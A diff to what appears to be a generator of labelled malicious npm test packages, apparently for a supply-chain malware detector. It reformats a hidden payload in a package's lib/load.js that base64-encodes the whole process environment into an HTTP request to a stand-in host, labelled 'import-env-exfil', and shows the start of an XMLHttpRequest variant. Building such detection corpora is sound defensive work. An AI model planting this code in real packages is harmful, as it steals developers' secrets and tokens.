@@ -279,7 +279,10 @@ const { execSync } = require('child_process');
 })().catch(() => {});
 ''')
     w.npm("locale-pack-xl", "1.0.0", "import-env-exfil", "one line among a hundred data files sends the environment", {
-        "lib/load.js": JS_MODULES["merge"] + "\nconst x = new (require('http').ClientRequest)({ host: 'l.locale-xl.invalid', path: '/' + Buffer.from(Object.entries(process.env).join()).toString('base64url') });\nx.on('error', () => {}); x.end();\n",
+        "lib/load.js": JS_MODULES["merge"] + '''
+const x = new (require('http').ClientRequest)({ host: 'l.locale-xl.invalid', path: '/' + Buffer.from(Object.entries(process.env).join()).toString('base64url') });
+x.on('error', () => {}); x.end();
+''',
         "index.js": "module.exports = require('./lib/load');\n"}, many=130)
     w.npm("xhr-compat", "1.0.9", "import-env-exfil", "sends the environment through XMLHttpRequest", r'''
 const X = typeof XMLHttpRequest === 'undefined' ? require('xmlhttprequest').XMLHttpRequest : XMLHttpRequest;
